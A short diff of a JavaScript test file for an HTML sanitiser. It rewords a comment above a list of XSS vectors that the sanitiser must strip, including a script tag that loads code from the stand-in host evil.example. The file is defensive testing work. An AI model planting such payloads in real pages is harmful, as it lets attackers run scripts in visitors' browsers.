@@ -30,7 +30,7 @@ describe('what staff write', () => {
   ])('is put right: %s', (_, body, cleaned) => expect(cleanBody(body)).toBe(cleaned));
 });
 
-/** Known ways to run a script, to load something from elsewhere, or to change the page around; none may survive. */
+/** Known ways to run a script, to load something from elsewhere, or to change the surrounding page. None may survive. */
 const vectors = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
